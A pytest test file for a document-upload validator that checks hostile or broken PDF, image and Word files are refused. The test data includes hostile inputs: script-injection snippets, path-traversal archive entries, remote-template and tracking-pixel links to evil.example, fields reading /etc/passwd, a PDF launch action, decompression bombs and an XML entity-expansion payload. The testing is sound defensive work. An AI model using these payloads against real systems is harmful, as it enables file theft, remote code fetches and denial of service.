"""Files that are broken or mean harm: each is refused with its reason by a process that may come to no more harm."""

from __future__ import annotations

import resource
import time
from collections.abc import Callable
from pathlib import Path

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from graduated.uploads import limits
from graduated.uploads.kinds import DOCX, JPEG, PDF, PNG, WrongFile
from graduated.uploads.outside import look_at
from graduated.uploads.word import look as look_in_word
from tests.uploads import files

TOO_FAR = "unpacks to far more"
REFUSED: list[tuple[str, Callable[[], bytes], str]] = [
    ("empty", lambda: b"", "This file is empty"),
    ("noise", files.noise, "not a PDF"),
    ("all ones", lambda: b"\xff" * 5000, "not a PDF"),
    ("JPEG of noise", lambda: b"\xff\xd8\xff\xe0" + files.noise(), "picture is damaged"),
    ("renamed program", lambda: b"MZ\x90\x00" + bytes(500), "not a PDF"),
    ("drawing with a script", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "not a PDF"),
    ("page of the web", lambda: b"<!doctype html><script>alert(1)</script>", "not a PDF"),
    ("page of the web before a PDF", lambda: b"<html><script>1</script>" + files.pdf(), "not a PDF"),
    ("page of the web before a ZIP", lambda: b"<html>" + files.word(), "not a PDF"),
    ("film of a phone", lambda: b"\x00\x00\x00\x18ftypheic" + bytes(50), "phone’s own form"),
    ("older Word", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "older Word document"),
    ("PDF cut short", lambda: files.pdf(30)[:-700], "damaged"),
    ("PDF cut in half", lambda: files.pdf(30)[: len(files.pdf(30)) // 2], "damaged"),
    ("PDF of noise", lambda: b"%PDF-1.7\n" + files.noise(), "damaged"),
    ("PDF without pages", lambda: files.pdf(0), "no pages"),
    ("PDF with a password", files.locked, "needs a password"),
    ("PDF of 100,000 pages", files.many_pages, "100,000 pages"),
    ("PDF that says it has few", lambda: files.written([
        "<< /Type /Catalog /Pages 2 0 R >>", f"<< /Type /Pages /Count 1 /Kids [{'3 0 R ' * 3000}] >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"]), "3,000 pages"),
    ("PDF of a deep tree", files.deep_tree, "damaged|more time or memory"),
    ("PDF whose tree bites its tail", lambda: files.written([
        "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Count 1 /Kids [2 0 R] /Parent 2 0 R >>"]),
     "damaged|no pages"),
    ("PDF of a gigabyte", files.bomb, TOO_FAR),
    ("PDF packed twice", lambda: files.bomb(320 * 1024 * 1024, layers=2), TOO_FAR),
    ("PDF of a page as large as a field", lambda: files.pdf(1, lambda made: made.pages[0].__setattr__(
        "mediabox", Array([0, 0, 1_000_000, 1_000_000]))), "damaged"),
    ("PDF that starts a program", files.launching, "starts a program"),
    ("PDF that starts one from a link", lambda: files.pdf(1, lambda made: made.pages[0].obj.__setattr__(
        "Annots", Array([Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("a.exe")))]))),
     "starts a program"),
    ("PDF that carries a file", files.carrying, "carries other files"),
    ("PDF for Acrobat alone", lambda: files.pdf(1, lambda made: made.Root.__setattr__("NeedsRendering", True)),
     "Acrobat only"),
    ("picture of 20,000 by 20,000", lambda: files.picture(size=(20_000, 20_000), mode="1"), "400 million pixels"),
    ("picture cut short", lambda: files.picture("JPEG", (800, 600))[:-300], "picture is damaged"),
    ("PNG cut short", lambda: files.picture("PNG", (800, 600))[:-300], "picture is damaged"),
    ("Word cut short", lambda: files.word({"word/a.xml": "x" * 9000}, 0)[:-900], "damaged"),
    ("Word of damaged parts", lambda: files.word({"a.xml": "sent home"}, 0).replace(b"sent home", b"SENT home"),
     "damaged"),
    ("Word without its text", lambda: files.word({"word/document.xml": "plain"}), "damaged"),
    ("spreadsheet", lambda: files.word({"xl/workbook.xml": "<x/>"}).replace(b"word/document", b"word/documemt"),
     "not a Word"),
    ("Word with macros", lambda: files.word({"word/vbaProject.bin": b"x"}), "macros"),
    ("Word that declares 200 MB", lambda: files.word({"word/media/a.bmp": bytes(200 * 1024 * 1024)}), TOO_FAR),
    ("Word that hides 200 MB", lambda: _lying(files.word({"word/media/a.bmp": bytes(200 * 1024 * 1024)})), "damaged"),
    ("Word of 6,000 parts", lambda: files.word({f"word/{n}.xml": "" for n in range(6000)}), "6,002 parts"),
    ("Word with a part outside", lambda: files.word({"../../evil.xml": "x"}), "put outside it"),
    ("Word with a part at the root", lambda: files.word({"/etc/cron.d/evil": "x"}), "put outside it"),
    ("Word with a part on a drive", lambda: files.word({"C:\\evil.xml": "x"}), "put outside it"),
    ("Word with a ZIP inside", lambda: files.word({"word/media/a.png": files.word()}), "another file inside"),
    ("Word with a program inside", lambda: files.word({"word/embeddings/oleObject1.bin": b"MZ"}),
     "another file or a program"),
    ("Word with a template of the web", lambda: files.linked("attachedTemplate", "https://evil.example/t.dotm"),
     "elsewhere"),
    ("Word with a template of a server", lambda: files.linked("attachedTemplate", r"file:///\\10.0.0.1\t.dotm"),
     "elsewhere"),
    ("Word with a picture of the web", lambda: files.linked("image", "http://evil.example/pixel.png"), "elsewhere"),
    ("Word that grows by its names", lambda: files.word({"word/document.xml": (
        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>')}), "no Word document has"),
]  # fmt: skip


OUTSIDE = [
    ("image", "/etc/passwd"), ("image", "file:/etc/passwd"), ("image", "file:///etc/passwd"), ("image", "../../x.png"),
    ("image", "smb://h/x"), ("oleObject", "vnd.sun.star.webdav://h/x"), ("image", "file:///C:\\Users\\x.png"),
    ("image", "x.png"), ("frame", "https://evil.example/"), ("attachedTemplate", "/etc/passwd"),
    ("attachedTemplate", "file:///C:/../etc/passwd"), ("attachedTemplate", "file:///C:/%2e%2e/etc/passwd"),
    ("subDocument", "other.docx"),
]  # fmt: skip
_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_BEGIN = '<w:fldChar w:fldCharType="begin"/>'
FIELDS = [
    ("word/document.xml", f'<x {_NS}>{_BEGIN}<w:instrText> INCLUDETEXT "/etc/passwd" </w:instrText></x>'),
    ("word/header1.xml", f'<x {_NS}><w:fldSimple w:instr=\' includepicture "http://evil.example/x" \'/></x>'),
    ("word/footer.part", f"<x {_NS}>{_BEGIN}<w:instrText>INC</w:instrText><w:instrText>LUDETEXT x</w:instrText></x>"),
    ("word/document.xml", f'<x {_NS}>{_BEGIN}<w:instrText>PAGE</w:instrText>{_BEGIN}<w:instrText> Include "x"'
     "</w:instrText></x>"),
    ("word/document.xml", f'<x {_NS}><w:fldSimple w:instr="IMPORT x.png"/></x>'),
]  # fmt: skip


@pytest.mark.parametrize(("kind", "target"), OUTSIDE)
def test_a_word_document_that_takes_a_part_of_itself_from_outside_is_refused(
    tmp_path: Path, kind: str, target: str
) -> None:
    with pytest.raises(WrongFile, match="elsewhere"):
        look_in_word(_put(tmp_path, files.linked(kind, target)))


@pytest.mark.parametrize(("part", "markup"), FIELDS)
def test_a_word_document_with_a_field_that_fetches_a_file_is_refused(tmp_path: Path, part: str, markup: str) -> None:
    with pytest.raises(WrongFile, match="elsewhere"):
        look_in_word(_put(tmp_path, files.word({part: markup})))


def test_fields_that_fetch_nothing_are_kept(tmp_path: Path) -> None:
    fields = ("PAGE", 'HYPERLINK "https://www.gov.uk/include/import"', 'TOC \\o "1-3"')
    text = "".join(f"{_BEGIN}<w:instrText> {one} </w:instrText>" for one in fields)
    content = files.word({"word/document.xml": f"<x {_NS}>{text}</x>", "word/media/a.svg": "<!DOCTYPE svg><svg/>"})
    assert look_in_word(_put(tmp_path, content)).media_type == DOCX


def _lying(content: bytes) -> bytes:
    """The same archive, whose large part says that it has ten bytes."""
    size = (200 * 1024 * 1024).to_bytes(4, "little")
    return content.replace(size, (10).to_bytes(4, "little"))


def _put(folder: Path, content: bytes) -> Path:
    path = folder / "sent.pdf"
    path.write_bytes(content)
    return path


@pytest.mark.parametrize(("make", "said"), [row[1:] for row in REFUSED], ids=[row[0] for row in REFUSED])
def test_a_file_that_may_do_harm_is_refused_with_its_reason(
    tmp_path: Path, make: Callable[[], bytes], said: str
) -> None:
    path = _put(tmp_path, make())
    begun, before = time.monotonic(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(WrongFile, match=said) as refused:
        look_at(path, tmp_path / "preview")
    assert str(refused.value).endswith(".") and "Error" not in str(refused.value)
    assert time.monotonic() - begun < limits.WALL_SECONDS
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 20_000, "the server itself unpacked it"
    assert [one.name for one in tmp_path.iterdir()] == ["sent.pdf"]


TAKEN = [
    ("PDF", lambda: files.pdf(12), (PDF, 12, None, None, ())),
    ("PDF that anybody may read", lambda: files.locked(user=""), (PDF, 1, None, None, ())),
    ("PDF with a script", files.scripted, (PDF, 1, None, None, ("a script",))),
    ("PDF that goes to a page", lambda: files.pdf(2, lambda made: made.Root.__setattr__("OpenAction", Array(
        [made.pages[1].obj, Name.Fit]))), (PDF, 2, None, None, ())),
    ("PDF followed by a page of the web", lambda: files.pdf() + b"<script>alert(1)</script>", (PDF, 1, None, None, ())),
    ("JPEG", lambda: files.picture("JPEG"), (JPEG, None, 40, 30, ())),
    ("JPEG on its side", files.with_places, (JPEG, None, 300, 400, ())),
    ("PNG of 36 million pixels", lambda: files.picture(size=(6000, 6000)), (PNG, None, 6000, 6000, ())),
    ("Word", files.word, (DOCX, None, None, None, ())),
    ("Word with links", lambda: files.linked("hyperlink", "https://www.gov.uk/"), (DOCX, None, None, None, ())),
    ("Word on a template of its writer", lambda: files.linked("attachedTemplate", "file:///C:\\Letters\\EP.dotx"),
     (DOCX, None, None, None, ())),
    ("Word with a chart", lambda: files.word({"word/embeddings/Sheet1.xlsx": files.word()}),
     (DOCX, None, None, None, ())),
]  # fmt: skip


@pytest.mark.parametrize(("make", "what"), [row[1:] for row in TAKEN], ids=[row[0] for row in TAKEN])
def test_a_file_that_is_kept_is_known_with_its_pages_and_size(
    tmp_path: Path, make: Callable[[], bytes], what: tuple[object, ...]
) -> None:
    found = look_at(_put(tmp_path, make()))
    assert (found.media_type, found.pages, found.width, found.height, found.active) == what


def test_a_stream_that_only_qpdf_unpacks_ends_only_the_process_that_looks(tmp_path: Path) -> None:
    def hide(made: pikepdf.Pdf) -> None:
        files.fill(made, 640 * 1024 * 1024)
        page = made.pages[0].obj
        packed = page.Contents.read_raw_bytes().hex().encode() + b">"
        filters = Array([Name.ASCIIHexDecode, Name.FlateDecode])
        page.Contents = made.make_indirect(pikepdf.Stream(made, packed, Filter=filters))

    content = files.pdf(1, hide, **files.AS_MADE)
    with pytest.raises(WrongFile, match="more time or memory|damaged"):
        look_at(_put(tmp_path, content))
